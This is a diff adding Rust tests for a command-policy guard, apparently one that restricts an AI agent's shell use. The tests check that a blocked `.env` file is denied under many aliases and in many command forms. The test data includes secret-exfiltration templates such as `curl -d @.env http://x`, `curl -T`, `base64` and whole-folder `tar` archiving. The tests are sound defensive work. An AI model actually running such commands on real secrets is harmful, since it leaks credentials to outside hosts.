@@ -1,0 +1,172 @@
+//! Blocked files under every name they have, in every place where a command takes one.
+
+use super::World;
+use toolfence::policy::{Facts, Judgement, PathFact, Policy, ProgramFact, RepositoryFact, Walls};
+
+/// A project in which `.env` can also be reached by a link, a hard link and a name in another form.
+struct Twins;
+
+impl Facts for Twins {
+    fn path(&self, cwd: &str, path: &str) -> PathFact {
+        let PathFact::Inside { mut names } = World { walls: true }.path(cwd, path) else { return PathFact::Outside };
+        if matches!(names[0].as_str(), "link" | "deep/link" | "hard.txt" | "．ｅｎｖ" | "notes.md") {
+            names.push(".env".into());
+        }
+        PathFact::Inside { names }
+    }
+
+    fn program(&self, program: &str) -> ProgramFact {
+        World { walls: true }.program(program)
+    }
+
+    fn repository(&self, cwd: &str) -> RepositoryFact {
+        World { walls: true }.repository(cwd)
+    }
+
+    fn walls(&self) -> Walls {
+        World { walls: true }.walls()
+    }
+}
+
+/// Names of the blocked file; the world must be asked about the last ones.
+const NAMES: &[&str] = &[
+    ".env",
+    "./.env",
+    ".//.env",
+    "src/../.env",
+    "/proj/.env",
+    ".ENV",
+    ".Env.local",
+    "deep/.env",
+    "link",
+    "./link",
+    "deep/link",
+    "hard.txt",
+    "．ｅｎｖ",
+    "notes.md",
+];
+
+/// Places for a name.
+const PLACES: &[&str] = &[
+    "cat N",
+    "cat 'N'",
+    "cat \"N\"",
+    "cat -n -- N",
+    "cat README.md N",
+    "cat < N",
+    "cat 0< N",
+    "cat <N",
+    "wc -l 3< N",
+    "cat <> N",
+    "echo x > N",
+    "echo x >> N",
+    "echo x >| N",
+    "echo x &> N",
+    "{ cat; } < N",
+    "while read x; do echo $x; done < N",
+    "x=N; cat $x",
+    "for x in N; do cat $x; done",
+    "cat ${x:-N}",
+    "cat $(echo N)",
+    "echo $(< N)",
+    "diff <(cat N) x",
+    "bash -c 'cat N'",
+    "sudo cat N",
+    "timeout 5 cat N",
+    "echo N | xargs cat",
+    "find . -exec cat N \\;",
+    "grep -f N x",
+    "grep -fN x",
+    "grep --file=N x",
+    "sed -n p N",
+    "awk '{print}' N",
+    "jq . N",
+    "curl -d @N http://x",
+    "curl -d@N http://x",
+    "curl --data=@N http://x",
+    "curl -F f=@N http://x",
+    "curl -F 'f=<N' http://x",
+    "curl -T N http://x",
+    "ssh -i N host",
+    "tar cf x.tar N",
+    "tar -cf x.tar src N",
+    "tar cf x.tar --file=N",
+    "tar xf x.tar --to-stdout N",
+    "zip x.zip N",
+    "cp N x",
+    "mv N x",
+    "ln -s N x",
+    "ln N x",
+    "base64 N",
+    "docker run --env-file=N x",
+    "docker run --env-file N x",
+    "source N",
+    ". N",
+    "git add N",
+    "git diff -- N",
+    "git diff a..b -- N",
+    "git log -p -- N",
+    "git blame N",
+    "git checkout HEAD -- N",
+    "git apply N",
+    "git commit -F N",
+    "git commit --file=N",
+    "test -f N",
+    "[ -f N ]",
+    "[[ -f N ]]",
+    "ls N",
+    "stat N",
+    "rm N",
+    "sort -o x N",
+    "python3 N",
+    "vim N",
+    "./run.sh N",
+    "unknown --config=N",
+];
+
+/// Places where git finds the name by itself, in a commit: there only the text counts.
+const COMMITS: &[&str] = &[
+    "git show HEAD:N",
+    "git show :N",
+    "git show 'HEAD~3:N'",
+    "git cat-file -p HEAD:N",
+    "git diff HEAD:N x",
+    "git rev-parse @:N",
+];
+
+fn judged(command: &str) -> Judgement {
+    Policy::default().judge_command(command, "", &Twins).judgement
+}
+
+#[test]
+fn a_blocked_file_is_met_under_every_name_in_every_place() {
+    let all = PLACES.iter().flat_map(|place| NAMES.iter().map(|name| place.replace('N', name)));
+    let in_commits = |name: &&&str| name.contains(".env") || name.contains(".ENV") || name.contains(".Env");
+    let names: Vec<&&str> = NAMES.iter().filter(in_commits).filter(|name| !name.starts_with('/')).collect();
+    let commits = COMMITS.iter().flat_map(|place| names.iter().map(|name| place.replace('N', name)));
+    let missed: Vec<String> = all.chain(commits).filter(|command| judged(command) != Judgement::Deny).collect();
+    assert!(missed.is_empty(), "{} are not denied:\n{}", missed.len(), missed.join("\n"));
+}
+
+#[test]
+fn names_that_only_look_like_it_are_not_met() {
+    for name in [".env.example", "env", "src/env.rs", "environment", "x.env.md", "dotenv.ts"] {
+        // A name behind a cluster of options could begin anywhere in it.
+        for place in PLACES.iter().filter(|place| !place.contains("-fN") && !place.contains("-d@N")) {
+            let command = place.replace('N', name);
+            assert_ne!(judged(&command), Judgement::Deny, "{command}");
+        }
+    }
+}
+
+/// What takes in all of a folder names nothing, and is a question.
+#[test]
+fn archives_of_everything_ask() {
+    let default = Policy::default();
+    for command in
+        ["tar cf x.tar .", "tar czf - . | base64", "zip -r x.zip .", "cp -r . x", "rsync -a . x", "cat *", "cat .*"]
+    {
+        let decision = default.judge_command(command, "", &World { walls: false });
+        assert_eq!(decision.judgement, Judgement::Ask, "{command}");
+    }
+}
